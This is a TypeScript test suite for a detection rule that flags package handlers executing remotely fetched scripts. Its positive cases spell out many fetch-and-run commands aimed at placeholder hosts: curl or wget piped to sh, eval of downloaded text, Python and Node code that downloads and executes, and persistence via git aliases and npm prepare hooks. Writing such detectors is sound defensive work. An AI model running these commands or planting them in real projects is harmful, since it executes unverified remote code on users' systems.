import { expect } from 'chai'
import { remoteScriptExecuted } from '../../../../consumers/governance/rules/remote-script-executed.ts'
import { apply, findings, packageWith, shell } from '../packages.ts'
import { handlers, node, python, ruleCases } from './cases.ts'

const found = (command: string, more: Record<string, unknown> = {}) =>
  findings(remoteScriptExecuted, packageWith([shell(command, more)]))

describe('WPK-P2-005 remote script executed', () => {
  for (const command of [
    'curl -L https://get.example.org/i.sh | sudo bash',
    'wget -qO- https://get.example.org/i.sh | tee i.log | sh -s -- --yes',
    'bash <(curl -s https://get.example.org/i.sh)',
    'sh -c "$(curl -fsSL https://get.example.org/i.sh)"',
    'eval "$(wget -qO- https://get.example.org/env)"',
    'curl -so /tmp/x https://get.example.org/x\nchmod +x /tmp/x\n/tmp/x --now',
    'wget https://get.example.org/run.py && python3 run.py',
    'ssh host "curl -s https://get.example.org/i.sh | sh"',
    'cat <<EOF | sh\ncurl https://get.example.org/i.sh | sh\nEOF',
  ]) {
    it(`finds ${command.slice(0, 50).replaceAll('\n', ' ')}`, () => {
      expect(found(command)).to.have.length(1)
      expect(found(command)[0]).to.include({ severity: 'high', pointer: '/spec/handlers/0/config/command' })
    })
  }

  it('finds it in other languages', () => {
    expect(
      found('import requests\nbody = requests.get("http://a.example/x").text\nexec(body)', { interpreter: 'python3' }),
    ).to.have.length(1)
    expect(
      found('require("child_process").execSync("curl http://a.example/x | sh")', { interpreter: 'node' }),
    ).to.have.length(1)
  })

  it('names the script inside an argument list of a manifest', () => {
    const pod = {
      kind: 'Pod',
      spec: { containers: [{ command: ['sh', '-c'], args: ['curl http://a.example/x | sh'] }] },
    }
    const pointers = findings(remoteScriptExecuted, packageWith([apply(pod)])).map(({ pointer }) => pointer)
    expect(pointers).to.deep.equal(['/spec/handlers/0/config/manifest/spec/containers/0/args/0'])
  })

  it('grades a checked download low, and only when the check comes between', () => {
    const steps = ['curl -so t https://get.example.org/t', 'sha256sum -c t.sha256', 'bash t']
    expect(found(steps.join('\n'))[0]?.severity).to.equal('low')
    expect(found([steps[1], steps[0], steps[2]].join('\n'))[0]?.severity).to.equal('high')
    expect(found([steps[0], steps[2], steps[1]].join('\n'))[0]?.severity).to.equal('high')
  })

  for (const command of [
    'curl -s https://api.example.org/x | tee log.txt',
    'curl -s https://api.example.org/x | python3 -m json.tool',
    'echo "never run curl https://x | sh"',
    '# curl https://x | sh\nmake',
    'curl -sLo tool.tgz https://get.example.org/t && tar xzf tool.tgz',
    'bash deploy.sh "$(curl -s https://api.example.org/version)"',
    'eval "$(ssh-agent -s)"',
    'cat <<EOF\ncurl https://x | sh\nEOF',
  ]) {
    it(`is silent on ${command.slice(0, 50).replaceAll('\n', ' ')}`, () => {
      expect(found(command)).to.deep.equal([])
    })
  }
})

ruleCases(remoteScriptExecuted, {
  finds: [
    'sh -c "$(printf %s "$(wget -qO- https://get.example.org/i)")"',

    'npm pkg set scripts.prepare="wget -qO- https://get.example.org/p | bash"\nnpm ci',
    "git config --global alias.st '!curl -s https://get.example.org/x | sh; git status'",
    "watch -n 60 'curl -s https://get.example.org/x | sh'",
    'curl -fsSL https://get.example.org/install.sh -o install.sh\nsudo -E bash install.sh --channel stable',
    python(
      'import os, urllib.request\nurllib.request.urlretrieve("https://get.example.org/t", "/tmp/t")\nos.chmod("/tmp/t", 0o755)\nos.system("/tmp/t")',
    ),
    node(
      'const { execSync } = require("node:child_process")\nconst text = execSync("curl -s https://get.example.org/x.js")\neval(text.toString())',
    ),
    handlers(
      shell('wget -q https://get.example.org/tool -P /opt/t'),
      shell('chmod +x /opt/t/tool'),
      shell('/opt/t/tool sync'),
    ),
  ],
  leaves: [
    'sh -c "$(printf %s "make test")"',

    'npm pkg set scripts.prepare="husky" version="1.2.0"\nnpm ci',
    "git config --global alias.st 'status --short --branch'",
    "watch -n 60 'curl -s https://api.example.org/health | jq .status'",
    'curl -fsSL https://get.example.org/schema.json -o schema.json\nbash ./validate.sh schema.json',
    python(
      'import json, urllib.request\nurllib.request.urlretrieve("https://get.example.org/t.json", "/tmp/t.json")\nprint(json.load(open("/tmp/t.json"))["version"])',
    ),
    node(
      'const { execSync } = require("node:child_process")\nconst text = execSync("curl -s https://get.example.org/x.json")\nconsole.log(JSON.parse(text.toString()).version)',
    ),
    handlers(
      shell('wget -q https://get.example.org/data.tgz -P /opt/t'),
      shell('tar -xzf /opt/t/data.tgz -C /opt/t/data'),
      shell('./tool sync /opt/t/data'),
    ),
  ],
})
